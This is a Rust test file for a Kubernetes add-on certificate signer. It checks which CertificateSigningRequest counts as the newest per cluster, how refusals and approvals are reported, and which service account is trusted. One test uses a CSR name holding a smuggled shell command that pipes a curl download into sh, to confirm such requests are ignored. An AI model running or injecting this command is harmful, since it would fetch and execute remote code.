//! What counts as the newest CSR.

use k8s_openapi::jiff::Timestamp as Made;
use serde_json::json;

use super::*;
use crate::csrs::answerers::Answerer;
use addon_signer_core::names::{ANNOTATION_CSR_USER, LABEL_CLUSTER_NAME};

const GRPC_SERVER: &str = "system:serviceaccount:open-cluster-management-hub:grpc-server-sa";

fn mk_csr(cluster: &str, second: i64, certificate: Option<&str>) -> CertificateSigningRequest {
    let labels = json!({ LABEL_CLUSTER_NAME: cluster, LABEL_ADDON_NAME: "t" });
    let made = Made::from_second(second).unwrap().to_string();
    let csr = json!({
        "metadata": { "name": format!("r{second}"), "labels": labels, "creationTimestamp": made },
        "spec": { "request": "", "signerName": "a.b/c", "username": "system:open-cluster-management:c1:x" },
        "status": { "certificate": certificate },
    });
    serde_json::from_value(csr).unwrap()
}

fn with_conditions(mut csr: CertificateSigningRequest, kinds: &[&str]) -> CertificateSigningRequest {
    let condition = |kind: &&str| CertificateSigningRequestCondition {
        type_: (*kind).to_owned(),
        reason: Some("Why".to_owned()),
        message: Some(format!("{kind} says why.")),
        ..CertificateSigningRequestCondition::default()
    };
    csr.status.get_or_insert_default().conditions = Some(kinds.iter().map(condition).collect());
    csr
}

fn key(cluster: &str) -> AddOnKey {
    AddOnKey { cluster: cluster.parse().unwrap(), addon: "t".parse().unwrap() }
}

fn open(newest: &NewestCsrs, answerer: Option<&Answerer>) -> Option<OpenCsr> {
    newest.open(&key("c1"), None, None, &answerers(answerer))
}

/// Of the signer name of [`mk_csr`].
fn answerers(answerer: Option<&Answerer>) -> Answerers {
    let by_name = answerer.map(|answerer| ("a.b/c".to_owned(), answerer.clone())).into_iter().collect();
    Answerers { by_name, of_others: None }
}

fn pending(waits_for: &str) -> OpenCsr {
    OpenCsr::Pending { waits_for: waits_for.to_owned() }
}

#[test]
fn newest_csr_counts_for_addons_of_the_cluster_that_made_it() {
    let left = |csrs: &[CertificateSigningRequest]| {
        let mut newest = NewestCsrs::default();
        csrs.iter().for_each(|csr| newest.note(csr, None));
        open(&newest, Some(&Answerer::default()))
    };
    let waiting = |second| mk_csr("c1", second, None);
    let expected = Some(pending("the hub to answer its CSR r2"));
    assert_eq!(left(&[waiting(1), waiting(2)]), expected);
    assert_eq!(left(&[waiting(2), waiting(1), mk_csr("c1", 1, Some("YQ=="))]), expected);
    assert_eq!(left(&[waiting(2), mk_csr("c1", 2, Some("YQ=="))]), None, "the same one, now issued");
    assert_eq!(left(&[mk_csr("c1", 3, Some("YQ==")), waiting(2)]), None, "in the order of a list");
    assert_eq!(left(&[mk_csr("c2", 2, None)]), expected, "c1 made it, in the name of c2");
    let mut of_another = mk_csr("c1", 3, Some("YQ=="));
    of_another.spec.signer_name = "d.e/f".to_owned();
    assert_eq!(left(&[waiting(2), of_another]), expected, "another signer's certificate");
}

#[test]
fn a_refused_csr_counts_until_there_is_a_newer_one() {
    let mut newest = NewestCsrs::default();
    let (waiting, refused) = (mk_csr("c1", 1, None), with_conditions(mk_csr("c1", 2, None), &["Denied"]));
    let (name, why) = ("r2".to_owned(), "Why: Denied says why.".to_owned());
    let expected = OpenCsr::Refused { name, why, is_deleted: true };
    newest.note(&waiting, None);
    newest.remove(&waiting, None);
    assert_eq!(open(&newest, None), None, "it was deleted");
    newest.note(&refused, None);
    newest.remove(&refused, None);
    newest.begin_list();
    newest.complete_list();
    assert_eq!(open(&newest, Some(&Answerer::default())), Some(expected));
    assert_eq!(open(&newest, None), None, "another program refused it");
    newest.note(&mk_csr("c1", 3, None), None);
    let (name, signer_name) = ("r3".to_owned(), "a.b/c".to_owned());
    let nobody = OpenCsr::NoSuchSigner { name, signer_name, nearest: None };
    assert_eq!(open(&newest, None), Some(nobody));
    newest.begin_list();
    newest.complete_list();
    assert_eq!(open(&newest, None), None, "the list did not show it");
}

#[test]
fn csrs_for_our_signers_come_before_those_for_others() {
    let mut newest = NewestCsrs::default();
    let refused = with_conditions(mk_csr("c1", 1, None), &["Denied"]);
    newest.note(&refused, None);
    for n in 2..100 {
        let mut other = mk_csr("c1", n, None);
        other.spec.signer_name = format!("d.e/f{n}");
        newest.note(&other, None);
    }
    let ours = answerers(Some(&Answerer::default()));
    let time = Timestamp::from_unix;
    let held = |begin| Newest { authority: "a".into(), not_before: time(begin), not_after: time(100) };
    for (held, valid_from, counts) in [
        (None, None, true),
        (Some(held(1)), Some(time(1)), true),
        (Some(held(2)), None, false),
        (None, Some(time(2)), false),
        (Some(held(1)), Some(time(2)), false),
    ] {
        let open = newest.open(&key("c1"), held.as_ref(), valid_from, &ours);
        assert_eq!(matches!(open, Some(OpenCsr::Refused { .. })), counts, "{held:?}, valid from {valid_from:?}");
    }
    assert_eq!(newest.clusters[&key("c1").cluster][&key("c1").addon].len(), MOST_SIGNERS);
    let unserved = |second, is_wanted| newest.unserved(Timestamp::from_unix(second), &ours, |_, _| is_wanted);
    assert_eq!(unserved(3, true), [("d.e/f2", 1, "r2"), ("d.e/f3", 1, "r3")]);
    assert!(unserved(1, true).is_empty() && unserved(3, false).is_empty());
}

#[test]
fn a_csr_that_the_hub_ignores_is_reported_to_nobody() {
    let mut newest = NewestCsrs::default();
    let mut csr = mk_csr("c1", 1, None);
    csr.metadata.name = Some("x; curl example.com | sh #".to_owned());
    newest.note(&csr, None);
    assert_eq!(open(&newest, Some(&Answerer::default())), None);
}

#[test]
fn labels_of_one_cluster_fill_no_memory() {
    let mut newest = NewestCsrs::default();
    for n in 0..10 * MOST_OF_CLUSTER {
        let mut csr = mk_csr("c1", 1, None);
        csr.metadata.labels.get_or_insert_default().insert(LABEL_ADDON_NAME.to_owned(), format!("t{n}"));
        newest.note(&csr, None);
    }
    assert_eq!(newest.clusters[&key("c1").cluster].len(), MOST_OF_CLUSTER);
    newest.retain(|_, addon| addon.as_str() == "t1");
    assert_eq!(newest.clusters[&key("c1").cluster].len(), 1);
}

#[test]
fn ocms_grpc_server_alone_says_for_whom_it_asks() {
    let is_believed = |account: &str| {
        let mut csr = mk_csr("c1", 1, None);
        csr.spec.username = Some(account.to_owned());
        let user = "system:open-cluster-management:c1:x".to_owned();
        csr.metadata.annotations = Some([(ANNOTATION_CSR_USER.to_owned(), user)].into());
        made_for(&csr, Some(GRPC_SERVER)).is_some_and(|key| key.cluster.as_str() == "c1")
    };
    assert!(is_believed(GRPC_SERVER));
    assert!(!is_believed("system:serviceaccount:open-cluster-management-hub:grpc-server-sb"));
    assert!(!is_believed("system:open-cluster-management:c2:x"));
}

#[test]
fn somebody_else_is_to_approve_only_where_approval_is_external() {
    let automatic = Answerer::default();
    let external = Answerer { leaves_approval: true, ..Answerer::default() };
    let problem = Some("the AddOnSigner t says NotPermitted: No.".to_owned());
    let broken = Answerer { problem: problem.clone(), ..Answerer::default() };
    let both = Answerer { leaves_approval: true, problem };
    let cases: [(&[&str], &Answerer, &str); 9] = [
        (&[], &automatic, "the hub to answer its CSR r1"),
        (&[], &external, "an approval of its CSR r1"),
        (&[], &both, "an approval of its CSR r1"),
        (&[], &broken, "the hub to answer its CSR r1, but the AddOnSigner t says NotPermitted: No."),
        (&["Approved"], &both, "the hub to sign its CSR r1, but the AddOnSigner t says NotPermitted: No."),
        (&["Approved"], &external, "the hub to sign its CSR r1"),
        (&["RateLimited"], &broken, "the hub to answer its CSR r1: RateLimited says why."),
        (&["Approved", "Revoked"], &external, "the hub to sign its CSR r1: Revoked says why."),
        (&["RateLimited", "RecordUnusable"], &automatic, "the hub to answer its CSR r1: RecordUnusable says why."),
    ];
    for (kinds, answerer, expected) in cases {
        let mut newest = NewestCsrs::default();
        newest.note(&with_conditions(mk_csr("c1", 1, None), kinds), None);
        assert_eq!(open(&newest, Some(answerer)), Some(pending(expected)), "{kinds:?}");
    }
}
